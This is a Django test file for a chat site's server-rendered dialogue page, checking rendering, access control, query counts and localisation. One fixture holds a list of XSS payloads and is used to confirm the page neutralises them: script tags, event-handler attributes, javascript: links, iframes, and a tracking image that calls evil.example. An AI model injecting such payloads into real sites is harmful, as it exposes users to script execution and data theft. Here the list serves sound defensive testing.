"""/d/<id>/: the chat page with a dialogue's newest page rendered on the server."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from conversations.models import Dialogue, Message
from tests.factories import DialogueFactory, MessageFactory

HOSTILE = "\n\n".join(
    [
        "<script>alert('PWNED-script')</script>",
        '<img src="https://evil.example/pixel.png" onerror="alert(1)">',
        "![tracker](https://evil.example/track.png?secret=1)",
        "![relative](//evil.example/x.png)",
        "[click](javascript:alert(1)) and [also](JaVaScRiPt:alert(2))",
        '<a href="javascript:alert(3)">raw link</a>',
        '<iframe src="https://evil.example/"></iframe>',
        "<svg onload=\"alert('svg')\"></svg>",
        '<b onclick="x()">bold</b> <div onmouseover="y()">div</div>',
        "```html\n</code></pre><script>alert('fence')</script>\n```",
        "**Safe** text with [a real link](https://example.com/page).",
    ]
)


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))


def tags_of(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Tags()
    parser.feed(html)
    return parser.tags


@pytest.fixture
def hostile_dialogue(user) -> Dialogue:
    dialogue = DialogueFactory(owner=user, title="Hostile")
    MessageFactory(dialogue=dialogue, content="Show me something <script>x</script>")
    MessageFactory(
        dialogue=dialogue, role=Message.Role.ASSISTANT, content=HOSTILE, model="m"
    )
    return dialogue


def test_the_page_shows_the_transcript_rendered_on_the_server(client, user, dialogue):
    # given a dialogue with a question and a Markdown answer
    MessageFactory(dialogue=dialogue, content="What is *this*?")
    MessageFactory(
        dialogue=dialogue,
        role=Message.Role.ASSISTANT,
        content="It is **bold** and `code`.",
        model="fake-model",
    )
    client.force_login(user)

    # when the deep link is opened
    response = client.get(reverse("chat-dialogue", args=[dialogue.pk]))

    # then both messages are in the HTML: the user's as typed, the reply rendered
    assert response.status_code == 200
    html = response.content.decode()
    assert "What is *this*?" in html
    assert "<strong>bold</strong> and <code>code</code>" in html
    assert f'data-first-paint="{dialogue.pk}"' in html
    assert html.count('class="msg msg-') == 2
    assert "fake-model" in html
    assert f"<title>{dialogue.title} · chatsite</title>" in html


def test_hostile_markdown_is_rendered_inert(client, user, hostile_dialogue):
    client.force_login(user)

    response = client.get(reverse("chat-dialogue", args=[hostile_dialogue.pk]))

    html = response.content.decode()
    assert response.status_code == 200
    tags = tags_of(html)
    scripts = [attrs for tag, attrs in tags if tag == "script"]
    # only the page's own script files: nothing inline, nothing from the transcript
    assert scripts and all(
        (a.get("src") or "").startswith(("/static/", "/jsi18n/")) for a in scripts
    ), scripts
    assert "<script>alert" not in html and "<script>x</script>" not in html
    for tag, attrs in tags:
        assert not [name for name in attrs if name.startswith("on")], (tag, attrs)
        for name, value in attrs.items():
            assert "javascript:" not in (value or "").lower(), (tag, name, value)
    sources = [a["src"] or "" for t, a in tags if t == "img" and "src" in a]
    assert all(s.startswith("/images/") for s in sources), sources
    assert not [t for t, _ in tags if t in {"iframe", "svg", "object", "embed"}]
    # the remote image became a link to follow by choice, not a load
    assert 'href="https://evil.example/track.png?secret=1"' in html
    assert '<a href="https://example.com/page" rel="noopener nofollow">' in html


def test_another_users_dialogue_is_a_404_like_a_missing_one(client, other_user):
    # given a dialogue of someone else
    foreign = DialogueFactory(owner=other_user)
    MessageFactory(dialogue=foreign, content="private words")
    missing_id = foreign.pk + 1000
    client.force_login(DialogueFactory().owner)

    # when the user opens it, and an id that does not exist
    foreign_response = client.get(reverse("chat-dialogue", args=[foreign.pk]))
    missing_response = client.get(reverse("chat-dialogue", args=[missing_id]))

    # then both are the same 404 and nothing of the dialogue leaks
    assert foreign_response.status_code == missing_response.status_code == 404
    assert b"private words" not in foreign_response.content
    assert foreign_response.content == missing_response.content.replace(
        str(missing_id).encode(), str(foreign.pk).encode()
    )


def test_the_page_needs_a_login(client, dialogue):
    response = client.get(reverse("chat-dialogue", args=[dialogue.pk]))

    assert response.status_code == 302
    assert response["Location"].startswith(reverse("login"))


def test_replaced_messages_are_not_painted(client, user, dialogue):
    MessageFactory(dialogue=dialogue, content="old question", replaced=True)
    MessageFactory(dialogue=dialogue, content="new question")
    client.force_login(user)

    html = client.get(reverse("chat-dialogue", args=[dialogue.pk])).content.decode()

    assert "new question" in html and "old question" not in html


def test_a_1000_message_dialogue_renders_its_newest_page_in_few_queries(
    client, user, dialogue, settings, django_assert_max_num_queries
):
    # given a dialogue of 1,000 messages
    Message.objects.bulk_create(
        Message(
            dialogue=dialogue,
            user=user,
            role=Message.Role.USER if i % 2 == 0 else Message.Role.ASSISTANT,
            content=f"Question {i}?" if i % 2 == 0 else f"Answer **{i}**\n\n- a\n- b",
            status=Message.Status.COMPLETE,
        )
        for i in range(1000)
    )
    client.force_login(user)

    # when the page is opened, the queries stay few whatever the length
    with django_assert_max_num_queries(7):
        response = client.get(reverse("chat-dialogue", args=[dialogue.pk]))

    # then the newest page is painted, oldest first, and the rest is left to paging
    html = response.content.decode()
    assert html.count('class="msg msg-') == settings.CHAT_PAGE_SIZE
    assert html.index("Question 998?") < html.index("<strong>999</strong>")
    assert "Question 0?" not in html
    assert 'data-has-more="true"' in html


def test_the_painted_page_speaks_the_browsers_language(client, user, dialogue):
    MessageFactory(dialogue=dialogue, role=Message.Role.ASSISTANT, content="Hi")
    client.force_login(user)

    response = client.get(
        reverse("chat-dialogue", args=[dialogue.pk]), HTTP_ACCEPT_LANGUAGE="zh-hans"
    )

    html = response.content.decode()
    assert "助手" in html  # the painted reply's role
    assert "举报此回复" in html  # the report dialog


def test_a_missing_dialogue_is_a_page_with_a_way_back(client, other_user, settings):
    # given someone else's dialogue, seen by a user reading Chinese
    foreign = DialogueFactory(owner=other_user)
    client.force_login(DialogueFactory().owner)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "zh-hans"

    response = client.get(reverse("chat-dialogue", args=[foreign.pk]))

    # then the site's own page says so and links back to the chat, in Chinese
    html = response.content.decode()
    assert response.status_code == 404
    assert '<a class="btn btn-primary" href="/">返回你的对话</a>' in html
    assert "<title>未找到 · chatsite</title>" in html
    assert "Not Found</h1>" not in html


def test_an_unknown_address_is_the_same_page_without_the_dialogue_wording(client, user):
    client.force_login(user)

    response = client.get("/no/such/page/")

    html = response.content.decode()
    assert response.status_code == 404
    assert "This address does not lead to a page of this site." in html
    assert "This dialogue does not exist" not in html
    assert '<a class="btn btn-primary" href="/">Back to your dialogues</a>' in html
